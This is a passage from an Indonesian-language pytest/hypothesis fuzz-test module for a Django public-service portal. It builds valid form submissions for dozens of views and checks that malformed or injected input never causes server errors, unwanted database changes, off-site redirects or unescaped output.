"""Masukan acak dan jahat ke setiap formulir portal (hypothesis).

Setiap baris ``FORMULIR`` adalah satu view yang menerima formulir: nama URL, penyiapan data dan argumen URL,
peran yang mengirim, dan kelas form-nya. Hypothesis mulai dari kiriman yang sah lalu merusak setiap field
(teks unicode acak, karakter kendali, NUL, teks sangat panjang, injeksi SQL/HTML/JS, angka di luar rentang,
tanggal/desimal/UUID rusak, field hilang, field tambahan, daftar sebagai ganti nilai tunggal). Yang dijaga:
- tidak pernah 5xx (pengecualian di view juga menggagalkan uji: klien uji meneruskannya);
- bila jawabannya bukan pengalihan (tanda berhasil), tidak ada baris domain yang bertambah, berkurang, atau
  berubah (``potret_basis_data``: satu kueri agregat jumlah baris + updated_at terakhir per tabel);
- pengalihan hanya ke portal sendiri;
- muatan HTML/JS yang dikirim tampil ter-escape bila halamannya ditampilkan ulang.
Setiap contoh berjalan dalam savepoint yang dibatalkan, jadi contoh berikutnya melihat data awal yang sama.

Menambah formulir (mis. app penghargaan): tulis fungsi ``_siapkan_xxx(d) -> (kwargs_url, data_sah)`` yang
memakai ``Dunia`` (fixture lewat ``d.fx("nama")``) lalu tambahkan ``Formulir(...)`` ke ``FORMULIR``. Label app
baru otomatis ikut dipotret bila tercantum di ``APP_DOMAIN``.
"""

import inspect
import os
import time
from collections.abc import Callable
from dataclasses import dataclass
from datetime import timedelta
from functools import cached_property
from urllib.parse import urlparse

import pytest
from django import forms
from django.apps import apps
from django.contrib import messages
from django.contrib.auth.forms import PasswordChangeForm
from django.core import signing
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection, transaction
from django.urls import get_resolver, reverse
from django.utils import timezone
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from akun.audit.forms import AuditFilterForm
from akun.dua_faktor.forms import KodeForm
from akun.forms import FormMasuk, PenggunaAdminForm
from evaluasi.forms.biro import KembalikanForm, LokusSaringForm, PenilaianForm, SiklusForm
from evaluasi.forms.bukti import BuktiForm
from evaluasi.forms.f01 import EvaluasiSaringForm, IsianF01Form
from evaluasi.forms.koreksi import KoreksiForm
from evaluasi.forms.sanggahan import JawabanSanggahanForm, SanggahanForm
from evaluasi.models import InstrumenVersi
from kaltim_yanlik.core import pembatas
from kaltim_yanlik.core.kiriman import isian_kunci
from kode_etik.forms import (
    JenisLayananForm,
    PelaksanaFilterForm,
    PelaksanaForm,
    PenempatanForm,
    PenyelenggaraFilterForm,
    PenyelenggaraForm,
)
from kode_etik.models import JenisLayanan, Larangan
from penghargaan.forms_pelaksana import (
    KriteriaTambahForm,
    NominasiForm,
    PenetapanForm,
    PeriodeForm,
    TahapBerjenjangForm,
    TimForm,
)
from penghargaan.forms_penyelenggara import KeluarkanForm, KeputusanGubernurForm, UsulanForm
from sanksi.forms_kasus import BandingForm, BukaKasusForm, KasusFilterForm, PemanggilanForm, SanksiForm
from sanksi.forms_pengaduan import (
    PengaduanCatatForm,
    PengaduanFilterForm,
    PengaduanPublikForm,
    UbahStatusForm,
)
from sanksi.views.ringkasan import SaringRingkasanForm
from survei.forms import (
    ImporSKMForm,
    KepatuhanOmbudsmanForm,
    NRRForm,
    PeriodeSKMForm,
    RTLForm,
    RTLSelesaiForm,
    SurveiForm,
)
from survei.models import UNSUR_FIELDS

pytestmark = pytest.mark.django_db

APP_DOMAIN = ("core", "akun", "kode_etik", "sanksi", "evaluasi", "penghargaan")
SANDI = "sandi-uji-123"  # conftest.py
PDF_KECIL = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
# Cukup untuk CI (~1 menit pada mesin sepi); FUZZ_CONTOH=200 untuk sesi berburu yang lebih lama.
CONTOH_PER_FORMULIR = int(os.environ.get("FUZZ_CONTOH", "12"))


# --- Potret basis data ---------------------------------------------------------------------------------


@dataclass(frozen=True)
class _Tabel:
    nama: str
    punya_updated_at: bool


# Simpanan turunan, bukan data: halaman GET boleh menyimpan SVG grafik yang baru pertama kali digambar.
_BUKAN_DATA = {"core.grafiktersimpan"}


def _tabel_domain() -> list[_Tabel]:
    tabel = []
    for model in apps.get_models():
        meta = model._meta
        if meta.label_lower in _BUKAN_DATA:
            continue
        if meta.app_label in APP_DOMAIN and meta.managed and not meta.proxy:
            kolom = {f.column for f in meta.concrete_fields}
            tabel.append(_Tabel(meta.db_table, "updated_at" in kolom))
    return sorted(set(tabel), key=lambda t: t.nama)


def potret_basis_data(kecuali: frozenset[str] = frozenset()) -> tuple:
    """Jumlah baris (dan updated_at terbaru bila ada) setiap tabel domain, dalam satu kueri."""
    bagian = []
    for t in _tabel_domain():
        if t.nama in kecuali:
            continue
        nama = connection.ops.quote_name(t.nama)
        # Nama tabel dari _meta model sendiri (dikutip), bukan dari masukan.
        bagian.append(f"(SELECT COUNT(*) FROM {nama})")  # noqa: S608
        if t.punya_updated_at:
            bagian.append(f"(SELECT MAX(updated_at) FROM {nama})")  # noqa: S608
    with connection.cursor() as kursor:
        kursor.execute("SELECT " + ", ".join(bagian))
        return tuple(kursor.fetchone())


# --- Data awal per formulir ----------------------------------------------------------------------------


@dataclass(frozen=True)
class Berkas:
    """Unggahan yang dibuat ulang setiap contoh (objek berkas habis dibaca setelah dikirim)."""

    nama: str
    isi: bytes

    def unggahan(self) -> SimpleUploadedFile:
        return SimpleUploadedFile(self.nama, self.isi)


def _token_isi(detik=60) -> str:
    """Cap waktu formulir publik yang dibuka ``detik`` lalu (lolos pemeriksaan waktu isi minimal)."""
    return signing.dumps(time.time() - detik, salt=pembatas._GARAM_WAKTU)


class Dunia:
    """Data yang dibutuhkan satu formulir, dibuat sekali per uji dan hanya bila diminta."""

    def __init__(self, request):
        self.request = request

    def fx(self, nama):
        return self.request.getfixturevalue(nama)

    @cached_property
    def hari(self):
        return timezone.localdate()

    @cached_property
    def instrumen(self):
        return InstrumenVersi.objects.get(tahun=2025, jenis="A")

    def siklus(self, fase):
        from evaluasi.models import SiklusMonev
        from evaluasi.services import siklus_buka
        from evaluasi.tests.conftest import jendela_siklus

        siklus = SiklusMonev(
            tahun=2025, nama="Monev PEKPPP 2025", instrumen=self.instrumen, **jendela_siklus(self.hari, fase)
        )
        return siklus_buka(siklus=siklus, oleh=self.fx("biro"), lokus=[self.fx("dinkes"), self.fx("samsat")])

    def geser(self, siklus, fase):
        from evaluasi.tests.conftest import jendela_siklus

        for nama, nilai in jendela_siklus(self.hari, fase).items():
            setattr(siklus, nama, nilai)
        siklus.save()

    @cached_property
    def staf_dinkes(self):
        from penghargaan.tests.conftest import buat_staf

        return buat_staf(self.fx("dinkes"), "Dinkes")

    @cached_property
    def periode_persiapan(self):
        """Periode penghargaan Dinkes dengan tim dan tiga nominasi, belum dinilai."""
        from penghargaan.tests.conftest import periode_siap

        return periode_siap(self.fx("kepala_dinkes"), self.staf_dinkes, mulai_penilaian=False)

    @cached_property
    def periode_penilaian(self):
        from penghargaan.services import periode as ph

        periode = self.periode_persiapan
        ph.penilaian_mulai(periode=periode, oleh=self.fx("kepala_dinkes"))
        periode.refresh_from_db()
        return periode

    @cached_property
    def siklus_final(self):
        from penghargaan.tests.conftest import finalkan

        siklus = self.siklus("finalisasi")
        return finalkan(siklus, {self.fx("dinkes").pk: 5, self.fx("samsat").pk: 4})

    @cached_property
    def usulan_penghargaan(self):
        from penghargaan.services import penyelenggara as ph

        return ph.usulan_buat(
            siklus=self.siklus_final, nama="Prima", aturan="peringkat", jumlah_teratas=2, oleh=self.fx("biro")
        )

    @cached_property
    def evaluasi_pengisian(self):
        return self.siklus("pengisian").evaluasi.get(penyelenggara=self.fx("dinkes"))

    @cached_property
    def evaluasi_diajukan(self):
        """Dinkes sudah mengajukan F-01 (indikator 2 dengan bukti wajib); hari ini fase penilaian."""
        from evaluasi import services
        from evaluasi.tests.alur import indikator, unggah_slot_wajib

        ev = self.evaluasi_pengisian
        operator = self.fx("operator_dinkes")
        services.jawaban_simpan(
            evaluasi=ev,
            indikator=indikator(self.instrumen, 2),
            isian={"unsur": ["pengguna_layanan", "ahli"]},
            catatan="",
            versi=0,
            oleh=operator,
        )
        unggah_slot_wajib(ev, operator)
        services.evaluasi_ajukan(evaluasi=ev, oleh=self.fx("kepala_dinkes"))
        self.geser(ev.siklus, "penilaian")
        ev.refresh_from_db()
        return ev

    @cached_property
    def evaluasi_dinilai(self):
        """Semua indikator dinilai level 3 dan selesai dinilai; hari ini fase perbaikan (masa sanggah)."""
        from evaluasi import services
        from evaluasi.tests.alur import nilai, nomor_dinilai

        ev = self.evaluasi_diajukan
        nilai(ev, self.fx("biro"), dict.fromkeys(nomor_dinilai(self.instrumen), 3))
        services.evaluasi_selesai_dinilai(evaluasi=ev, oleh=self.fx("biro"))
        self.geser(ev.siklus, "perbaikan")
        ev.refresh_from_db()
        return ev

    @cached_property
    def sanggahan(self):
        from evaluasi import services
        from evaluasi.tests.alur import indikator

        return services.sanggahan_ajukan(
            evaluasi=self.evaluasi_dinilai,
            indikator=indikator(self.instrumen, 14),
            level_diminta=5,
            alasan="Laporan tindak lanjut sudah ada.",
            lampiran=[Berkas("bukti.pdf", PDF_KECIL).unggahan()],
            oleh=self.fx("kepala_dinkes"),
        )

    @cached_property
    def periode(self):
        from survei import services

        return services.periode_skm_buat(
            penyelenggara=self.fx("dinkes"),
            nama="Semester II",
            mulai=self.hari - timedelta(days=10),
            selesai=self.hari + timedelta(days=10),
            populasi=1000,
            oleh=self.fx("kepala_dinkes"),
        )

    @cached_property
    def rtl(self):
        from survei import services

        return services.rtl_tambah(
            periode=self.periode,
            unsur="U9",
            kegiatan="Tambah kursi ruang tunggu",
            penanggung_jawab="Kasubag Umum",
            tenggat=self.hari + timedelta(days=30),
            oleh=self.fx("operator_dinkes"),
        )

    @cached_property
    def layanan(self):
        return JenisLayanan.objects.create(penyelenggara=self.fx("dinkes"), nama="Izin Apotek")

    @cached_property
    def pengaduan(self):
        from sanksi import services

        return services.pengaduan_kirim_publik(
            penyelenggara=self.fx("dinkes"),
            uraian="Antrean loket dibiarkan dua jam tanpa petugas.",
            alamat_ip="198.51.100.1",
        )

    @cached_property
    def kasus(self):
        from sanksi import services
        from sanksi.models import Pelanggaran

        return services.pelanggaran_buka(
            pelaksana=self.fx("pelaksana_dinkes"),
            larangan=Larangan.objects.get(huruf="a"),
            uraian="Meninggalkan loket pelayanan tanpa alasan.",
            sumber=Pelanggaran.Sumber.TEMUAN_ATASAN,
            oleh=self.fx("operator_dinkes"),
        )


def _masuk(d):
    d.fx("operator_dinkes")
    return {}, {"username": "operator.dinkes", "password": SANDI}


def _kode_totp(perangkat) -> str:
    from django_otp.oath import TOTP

    totp = TOTP(perangkat.bin_key, perangkat.step, perangkat.t0, perangkat.digits, perangkat.drift)
    totp.time = time.time()
    return f"{totp.token():06d}"


def _dua_faktor_daftar(d):
    """Biro wajib 2FA, belum terdaftar: perangkat belum terkonfirmasi, kode sah dari rahasianya."""
    from akun.dua_faktor.services import totp_siapkan

    d.fx("settings").WAJIB_2FA = True
    return {}, {"kode": _kode_totp(totp_siapkan(user=d.fx("biro")))}


def _dua_faktor_verifikasi(d):
    """Biro wajib 2FA, sudah terdaftar, sesi baru lolos kata sandi."""
    from django_otp.plugins.otp_totp.models import TOTPDevice

    settings_ = d.fx("settings")
    settings_.WAJIB_2FA, settings_.OTP_TOTP_THROTTLE_FACTOR = True, 0
    perangkat = TOTPDevice.objects.create(user=d.fx("biro"), name="Aplikasi", confirmed=True)
    return {}, {"kode": _kode_totp(perangkat)}


def _notifikasi_baca(d):
    from kaltim_yanlik.core.notifikasi import notifikasi_kirim

    notifikasi_kirim(penerima=[d.fx("operator_dinkes")], judul="Pengingat", tautan="/evaluasi/")
    from kaltim_yanlik.core.models import Notifikasi

    return {}, {"notifikasi": str(Notifikasi.objects.get().pk), "buka": "on"}


def _ganti_sandi(d):
    baru = "Kaltim-Berakhlak-2025"
    return {}, {"old_password": SANDI, "new_password1": baru, "new_password2": baru}


def _data_unit(kode):
    return {"kode": kode, "nama": "Dinas Uji", "singkatan": "DU", "jenis": "PD", "alamat": "", "aktif": "on"}


def _penyelenggara_baru(d):
    return {}, _data_unit("PD-UJI")


def _penyelenggara_ubah(d):
    return {"code": d.fx("dinkes").code}, _data_unit("PD-DINKES")


def _data_pelaksana(d):
    return {"nama": "Siti Aminah", "nip": "", "jabatan": "Petugas loket", "kategori": "petugas"} | {
        "penyelenggara": d.fx("dinkes").pk,
        "aktif": "on",
    }


def _pelaksana_baru(d):
    return {}, _data_pelaksana(d)


def _pelaksana_ubah(d):
    return {"code": d.fx("pelaksana_dinkes").code}, _data_pelaksana(d)


def _jenis_layanan_baru(d):
    return {"unit_code": d.fx("dinkes").code}, {"nama": "Izin Klinik", "keterangan": "", "aktif": "on"}


def _jenis_layanan_ubah(d):
    kwargs = {"unit_code": d.fx("dinkes").code, "code": d.layanan.code}
    return kwargs, {"nama": "Izin Klinik", "keterangan": "", "aktif": "on"}


def _pengaduan_publik(d):
    return {}, {
        "penyelenggara": str(d.fx("dinkes").code),
        "uraian": "Saya diminta uang pelicin agar didahulukan di loket.",
        "tanggal_kejadian": (d.hari - timedelta(days=3)).isoformat(),
        "situs_web": "",
        "waktu_isi": _token_isi(),
        "lampiran": Berkas("bukti.pdf", PDF_KECIL),
    }


def _pengaduan_lacak(d):
    return {}, {"kode": d.pengaduan.kode_lacak}


def _pengaduan_catat(d):
    return {}, {
        "penyelenggara": str(d.fx("dinkes").code),
        "saluran": "sp4n_lapor",
        "nomor_lapor": "#1234 567",
        "uraian": "Diteruskan dari SP4N-LAPOR!: pelayanan ditolak tanpa alasan.",
    }


def _pengaduan_status(d):
    d.fx("kepala_dinkes")
    return {"code": d.pengaduan.code}, {"status": "diverifikasi", "keterangan_publik": "Sedang diperiksa."}


def _kasus_buka(d):
    return {}, {
        "pelaksana": d.fx("pelaksana_dinkes").code,
        "larangan": Larangan.objects.get(huruf="a").pk,
        "sumber": "temuan_atasan",
        "uraian": "Berkata kasar kepada pemohon.",
    }


def _kasus_panggil(d):
    return {"code": d.kasus.code, "langkah": "pemanggilan"}, {
        "pemanggilan-nomor_surat": "800/1",
        "pemanggilan-tanggal_surat": d.hari.isoformat(),
        "pemanggilan-jadwal": f"{d.hari.isoformat()}T10:00",
        "pemanggilan-tempat": "Aula",
    }


def _kasus_bap(d):
    """Kasus Dinkes sampai BAP terbukti: Kepala Dinkes menjatuhkan pemindahan dengan tempat tujuan."""
    from sanksi.tests.test_pelanggaran import _sampai_bap

    _sampai_bap(d.kasus, d.fx("operator_dinkes"))
    return {"code": d.kasus.code, "langkah": "sanksi"}, {
        "sanksi-jenis": "pemindahan", "sanksi-nomor_keputusan": "KEP/9",
        "sanksi-tanggal_keputusan": d.hari.isoformat(), "sanksi-pertimbangan": "Terbukti.",
        "sanksi-tempat_baru": "Bagian Arsip",
    }  # fmt: skip


def _kasus_banding(d):
    """Keberatan Pelaksana Dinkes ditolak Kepala Dinkes; Biro mencatat banding kepada Sekda."""
    from sanksi import services as sk
    from sanksi.tests.test_pelanggaran import _jatuhkan, _keberatan, _sampai_bap

    sanksi = _jatuhkan(_sampai_bap(d.kasus, d.fx("operator_dinkes")), d.fx("kepala_dinkes"))
    keberatan = _keberatan(sanksi, d.fx("operator_dinkes"), d.hari)
    sk.keberatan_putus(
        keberatan=keberatan, dikabulkan=False, pertimbangan="Tetap.", oleh=d.fx("kepala_dinkes")
    )
    return {"code": d.kasus.code, "langkah": "banding"}, {
        "banding-tanggal_diterima": d.hari.isoformat(), "banding-alasan": "Mohon ditinjau Sekda.",
    }  # fmt: skip


def _penempatan(d):
    return {"code": d.fx("pelaksana_dinkes").code}, {
        "penempatan-jenis_layanan": d.layanan.code, "penempatan-tempat": "Loket 2",
        "penempatan-mulai": d.hari.isoformat(), "penempatan-keterangan": "Rotasi.",
    }  # fmt: skip


def _ph_berjenjang(d):
    from penghargaan.services import periode as ph

    staf = d.staf_dinkes
    calon = staf["calon"][0]
    calon.atasan_langsung = staf["kepala"]
    calon.save(update_fields=["atasan_langsung"])
    periode = ph.periode_buat(
        penyelenggara=d.fx("dinkes"), jenis="insidentil", mulai=d.hari - timedelta(days=3), selesai=d.hari,
        metode="berjenjang", nama_penghargaan="Teladan", oleh=d.fx("kepala_dinkes"),
    )  # fmt: skip
    ph.nominasi_tambah(periode=periode, pelaksana=calon, alasan="", oleh=d.fx("kepala_dinkes"))
    ph.penilaian_mulai(periode=periode, oleh=d.fx("kepala_dinkes"))
    tahap = periode.nominasi.get().tahap_berjenjang.get()
    data = {f"k_{k.pk}": "85" for k in periode.kriteria.filter(dari_data=False)} | {"catatan": "Baik."}
    return {"code": periode.code, "tahap_code": tahap.code}, data


def _siklus_baru(d):
    from evaluasi.tests.conftest import jendela_siklus

    jendela = {k: v.isoformat() for k, v in jendela_siklus(d.hari).items()}
    return {}, {
        "tahun": 2027,
        "nama": "",
        "instrumen": d.instrumen.pk,
        **jendela,
        "lokus": [d.fx("dinkes").pk],
    }


def _nilai_simpan(d):
    kwargs = {"code": d.evaluasi_diajukan.code, "nomor": 2}
    return kwargs, {"i2-level": "4", "i2-catatan": "", "i2-rekomendasi": "", "i2-alasan": ""}


def _kembalikan(d):
    return {"code": d.evaluasi_diajukan.code}, {"alasan_2": "Bukti kurang"}


def _f01(d):
    kwargs = {"code": d.evaluasi_pengisian.code, "nomor": 2}
    data = {"versi": "0", "isian_unsur": ["pengguna_layanan", "ahli"], "catatan": "FKP 12 Mei."}
    return kwargs, data | {"lanjut": "3"}  # tombol "Simpan & lanjut"


def _f01_pratinjau(d):
    return {"code": d.evaluasi_pengisian.code, "nomor": 2}, {"isian_unsur": ["pengguna_layanan", "ahli"]}


def _bukti_unggah(d):
    from evaluasi.tests.alur import indikator

    slot = indikator(d.instrumen, 2).slot_bukti.first()
    kwargs = {"code": d.evaluasi_pengisian.code, "nomor": 2}
    return kwargs, {
        "slot": str(slot.code),
        "berkas": Berkas("bukti.pdf", PDF_KECIL),
        "berlaku_tanggal": d.evaluasi_pengisian.siklus.pengisian_mulai.isoformat(),
    }


def _sanggahan_ajukan(d):
    kwargs = {"code": d.evaluasi_dinilai.code, "nomor": 14}
    return kwargs, {
        "level_diminta": "5",
        "alasan": "Ada bukti baru.",
        "lampiran": Berkas("baru.pdf", PDF_KECIL),
    }


def _sanggahan_jawab(d):
    return {"code": d.sanggahan.code}, {
        "keputusan": "diterima",
        "level_baru": "5",
        "jawaban": "Terverifikasi.",
    }


def _survei_publik(d):
    data = {**dict.fromkeys(UNSUR_FIELDS, "3"), "situs_web": "", "waktu_isi": _token_isi()}
    return {"code": d.periode.code}, data | {"jenis_layanan": str(d.layanan.code), "saran": ""}


def _data_periode(d):
    return {
        "nama": "Tahun 2026",
        "mulai": (d.hari + timedelta(days=40)).isoformat(),
        "selesai": (d.hari + timedelta(days=70)).isoformat(),
        "populasi": "400",
    }


def _skm_buat(d):
    return {}, {"penyelenggara": str(d.fx("dinkes").code), **_data_periode(d)}


def _skm_ubah(d):
    return {"code": d.periode.code}, _data_periode(d)


def _skm_impor(d):
    csv = "u1;u2;u3;u4;u5;u6;u7;u8;u9;usia;jenis_kelamin;saran\n3;3;3;3;3;3;3;3;3;;;Baik\n"
    return {"code": d.periode.code}, {"berkas": Berkas("skm.csv", csv.encode())}


def _skm_nrr(d):
    return {"code": d.periode.code}, {**dict.fromkeys(UNSUR_FIELDS, "3,5"), "jumlah_responden": "300"}


def _rtl_tambah(d):
    return {"code": d.periode.code}, {
        "unsur": "U9",
        "kegiatan": "Tambah kursi",
        "penanggung_jawab": "Kasubag Umum",
        "tenggat": (d.hari + timedelta(days=30)).isoformat(),
    }


def _rtl_selesaikan(d):
    data = {"selesai_pada": d.hari.isoformat(), "keterangan": "Sudah.", "bukti": Berkas("rtl.pdf", PDF_KECIL)}
    return {"code": d.rtl.code}, data


def _ombudsman(d):
    return {}, {"penyelenggara": d.fx("dinkes").pk, "tahun": "2025", "nilai": "85,5", "grade": "A"}


def _admin_pengguna(d):
    data = {"username": "pengguna.baru", "nama": "Pengguna Baru", "peran": "pimpinan", "is_active": "on"}
    return {}, data | {"sandi_baru": "Sandi-Pengguna-Baru-8842"}


def _saring_penyelenggara(d):
    return {}, {"cari": "Dinas", "jenis": "PD", "aktif": "ya", "halaman": "1"}


def _saring_pelaksana(d):
    data = {"cari": "Rina", "kategori": "pegawai", "aktif": "ya", "halaman": "1"}
    return {}, data | {"penyelenggara": str(d.fx("pelaksana_dinkes").penyelenggara.code)}


def _saring_kasus(d):
    assert d.kasus  # daftar tidak kosong: baris hasil saringan ikut dirender
    return {}, {"cari": "loket", "tahap": "", "jalur": "", "halaman": "2"}


def _saring_pengaduan(d):
    assert d.pengaduan
    return {}, {"cari": "loket", "status": "diterima", "penyelenggara": str(d.fx("dinkes").code)}


def _saring_evaluasi(d):
    return {}, {
        "siklus": str(d.evaluasi_pengisian.siklus.code),
        "status": "",
        "cari": "Dinas",
        "halaman": "1",
    }


def _saring_lokus(d):
    return {"code": d.evaluasi_pengisian.siklus.code}, {"status": "", "cari": "Dinas", "halaman": "1"}


def _saring_ringkasan(d):
    return {}, {"tahun": str(d.hari.year), "unit": str(d.fx("dinkes").pk)}


def _saring_ombudsman(d):
    return {}, {"tahun": "2025"}


def _saring_audit(d):
    return {}, {"unit": str(d.fx("dinkes").code), "halaman": "1"}


@dataclass(frozen=True)
class Formulir:
    url: str  # nama URL
    siapkan: Callable[[Dunia], tuple[dict, dict]]  # → (kwargs URL, data kiriman yang sah)
    peran: str | None  # fixture pengguna pengirim; None = publik tanpa login
    form: type[forms.BaseForm] | None  # sumber nama field (bersama kunci data sah)
    awalan: str = ""  # prefix form
    metode: str = "post"
    # Formulir pembuat rekaman membawa kunci kiriman sekali (core/kiriman.py); kiriman sahnya ikut membawanya.
    kunci: bool = False

    def nama_field(self, data_sah: dict) -> list[str]:
        dari_form = [f"{self.awalan}{n}" for n in self.form.base_fields] if self.form else []
        return sorted(set(dari_form) | set(data_sah))


def Saringan(url, siapkan, peran, form) -> Formulir:  # noqa: N802 (dibaca seperti Formulir)
    return Formulir(url, siapkan, peran, form, metode="get")


def _ph_periode_baru(d):
    d.fx("dinkes")
    return {}, {"nama_penghargaan": "Pelaksana Teladan", "jenis": "bulanan", "bulan_mulai": "2026-10"}


def _ph_bobot(d):
    periode = d.periode_persiapan
    return {"code": periode.code}, {f"bobot_{k.pk}": str(k.bobot) for k in periode.kriteria.all()}


def _ph_kriteria(d):
    return {"code": d.periode_persiapan.code}, {"nama": "Disiplin", "bobot": "5"}


def _ph_tim(d):
    staf = d.staf_dinkes
    periode = d.periode_persiapan
    periode.nominasi.all().delete()  # agar calon bebas dipilih sebagai anggota
    return {"code": periode.code}, {
        "sekretaris": staf["calon"][0].pk,
        "anggota": [p.pk for p in staf["calon"][1:4]],
    }


def _ph_nominasi(d):
    periode = d.periode_persiapan
    return {"code": periode.code}, {"pelaksana": d.staf_dinkes["calon"][3].pk, "alasan": "Ramah."}


def _ph_lembar(d):
    periode = d.periode_penilaian
    kriteria = periode.kriteria.filter(dari_data=False)
    data = {f"n_{n.pk}_{k.pk}": "80" for n in periode.nominasi.all() for k in kriteria}
    return {"code": periode.code, "anggota_code": periode.tim.first().code}, data


def _ph_tetapkan(d):
    from penghargaan.tests.conftest import isi_semua_lembar

    periode = d.periode_penilaian
    isi_semua_lembar(periode, d.fx("kepala_dinkes"), {p.nama: {"*": 85} for p in d.staf_dinkes["calon"]})
    n = periode.nominasi.first()
    return {"code": periode.code}, {
        "nomor_keputusan": "800/PH/1", "tanggal_keputusan": d.hari.isoformat(),
        f"pilih_{n.pk}": "on", f"bentuk_{n.pk}": ["piagam"], f"ket_{n.pk}": "", f"publik_{n.pk}": "on",
    }  # fmt: skip


def _ph_usul(d):
    siklus = d.siklus_final
    return {}, {
        "siklus": siklus.pk,
        "nama": "Prima",
        "aturan": "kategori",
        "kategori": "A",
        "jumlah_teratas": "",
    }


def _ph_gubernur(d):
    data = {"nomor_keputusan": "K/1", "tanggal_keputusan": d.hari.isoformat(), "bentuk": ["piagam", "pin"]}
    d.fx("pejabat_provinsi")
    return {"code": d.usulan_penghargaan.code}, data


def _koreksi(d):
    """Koreksi hasil final Dinkes (siklus final belum terbit: tanpa versi publikasi baru)."""
    evaluasi = d.siklus_final.evaluasi.get(penyelenggara=d.fx("dinkes"))
    data = {"alasan": "Bukti terlewat saat penilaian.", "rujukan": "BA Koreksi 700/1/2026", "level_2": "3"}
    return {"code": evaluasi.code}, data


def _ph_keluarkan(d):
    usulan = d.usulan_penghargaan
    return {"code": usulan.code, "penerima_code": usulan.penerima.first().code}, {
        "alasan": "Sedang diperiksa."
    }


FORMULIR = [
    Formulir("akun:masuk", _masuk, None, FormMasuk),
    Formulir("akun:ganti_sandi", _ganti_sandi, "operator_dinkes", PasswordChangeForm),
    Formulir("notifikasi_baca", _notifikasi_baca, "operator_dinkes", None),
    Formulir("akun:dua_faktor_daftar", _dua_faktor_daftar, "biro", KodeForm),
    Formulir("akun:dua_faktor_verifikasi", _dua_faktor_verifikasi, "biro", KodeForm),
    Formulir("admin:akun_pengguna_add", _admin_pengguna, "admin_portal", PenggunaAdminForm),
    Formulir("kode_etik:penyelenggara_baru", _penyelenggara_baru, "biro", PenyelenggaraForm),
    Formulir("kode_etik:penyelenggara_ubah", _penyelenggara_ubah, "biro", PenyelenggaraForm),
    Formulir("kode_etik:pelaksana_baru", _pelaksana_baru, "operator_dinkes", PelaksanaForm),
    Formulir("kode_etik:pelaksana_ubah", _pelaksana_ubah, "operator_dinkes", PelaksanaForm),
    Formulir("kode_etik:jenis_layanan_baru", _jenis_layanan_baru, "operator_dinkes", JenisLayananForm),
    Formulir("kode_etik:jenis_layanan_ubah", _jenis_layanan_ubah, "operator_dinkes", JenisLayananForm),
    Formulir("sanksi:pengaduan_publik", _pengaduan_publik, None, PengaduanPublikForm, kunci=True),
    Formulir("sanksi:pengaduan_lacak", _pengaduan_lacak, None, None, metode="get"),
    Formulir("sanksi:pengaduan_catat", _pengaduan_catat, "operator_dinkes", PengaduanCatatForm, kunci=True),
    Formulir("sanksi:pengaduan_ubah_status", _pengaduan_status, "kepala_dinkes", UbahStatusForm),
    Formulir("sanksi:kasus_buka", _kasus_buka, "operator_dinkes", BukaKasusForm, kunci=True),
    Formulir(
        "sanksi:kasus_langkah", _kasus_panggil, "operator_dinkes", PemanggilanForm, "pemanggilan-", kunci=True
    ),
    Formulir("sanksi:kasus_langkah", _kasus_bap, "kepala_dinkes", SanksiForm, "sanksi-", kunci=True),
    Formulir("sanksi:kasus_langkah", _kasus_banding, "biro", BandingForm, "banding-", kunci=True),
    Formulir("kode_etik:penempatan_catat", _penempatan, "operator_dinkes", PenempatanForm, "penempatan-"),
    Formulir("evaluasi:siklus_baru", _siklus_baru, "biro", SiklusForm),
    Formulir("evaluasi:nilai_simpan", _nilai_simpan, "biro", PenilaianForm, "i2-"),
    Formulir("evaluasi:kembalikan", _kembalikan, "biro", KembalikanForm),
    Formulir("evaluasi:f01", _f01, "operator_dinkes", IsianF01Form),
    Formulir("evaluasi:f01_pratinjau", _f01_pratinjau, "operator_dinkes", IsianF01Form),
    Formulir("evaluasi:bukti_unggah", _bukti_unggah, "operator_dinkes", BuktiForm, kunci=True),
    Formulir("evaluasi:sanggahan_ajukan", _sanggahan_ajukan, "kepala_dinkes", SanggahanForm, kunci=True),
    Formulir("evaluasi:sanggahan_detail", _sanggahan_jawab, "biro", JawabanSanggahanForm),
    Formulir("evaluasi:koreksi", _koreksi, "biro", KoreksiForm),
    Formulir("survei:survei_publik", _survei_publik, None, SurveiForm),
    Formulir("survei:skm_buat", _skm_buat, "operator_dinkes", PeriodeSKMForm),
    Formulir("survei:skm_ubah", _skm_ubah, "kepala_dinkes", PeriodeSKMForm),
    Formulir("survei:skm_impor", _skm_impor, "operator_dinkes", ImporSKMForm),
    Formulir("survei:skm_nrr", _skm_nrr, "kepala_dinkes", NRRForm),
    Formulir("survei:rtl_tambah", _rtl_tambah, "operator_dinkes", RTLForm),
    Formulir("survei:rtl_selesaikan", _rtl_selesaikan, "operator_dinkes", RTLSelesaiForm),
    Formulir("survei:ombudsman_catat", _ombudsman, "biro", KepatuhanOmbudsmanForm),
    Formulir("penghargaan:periode_baru", _ph_periode_baru, "kepala_dinkes", PeriodeForm),
    Formulir("penghargaan:kriteria_bobot", _ph_bobot, "kepala_dinkes", None),
    Formulir("penghargaan:kriteria_tambah", _ph_kriteria, "kepala_dinkes", KriteriaTambahForm),
    Formulir("penghargaan:tim_susun", _ph_tim, "kepala_dinkes", TimForm),
    Formulir("penghargaan:nominasi_tambah", _ph_nominasi, "kepala_dinkes", NominasiForm),
    Formulir("penghargaan:lembar_nilai", _ph_lembar, "kepala_dinkes", None),
    Formulir("penghargaan:periode_tetapkan", _ph_tetapkan, "kepala_dinkes", PenetapanForm, kunci=True),
    Formulir("penghargaan:tahap_berjenjang", _ph_berjenjang, "kepala_dinkes", TahapBerjenjangForm),
    Formulir("penghargaan:penyelenggara_usul", _ph_usul, "biro", UsulanForm),
    Formulir("penghargaan:penyelenggara_tetapkan", _ph_gubernur, "biro", KeputusanGubernurForm, kunci=True),
    Formulir("penghargaan:penerima_keluarkan", _ph_keluarkan, "biro", KeluarkanForm),
    # Saringan daftar (GET): parameter URL juga masukan; GET tidak pernah mengubah data.
    Saringan("kode_etik:penyelenggara_list", _saring_penyelenggara, "biro", PenyelenggaraFilterForm),
    Saringan("kode_etik:pelaksana_list", _saring_pelaksana, "operator_dinkes", PelaksanaFilterForm),
    Saringan("sanksi:kasus_daftar", _saring_kasus, "kepala_dinkes", KasusFilterForm),
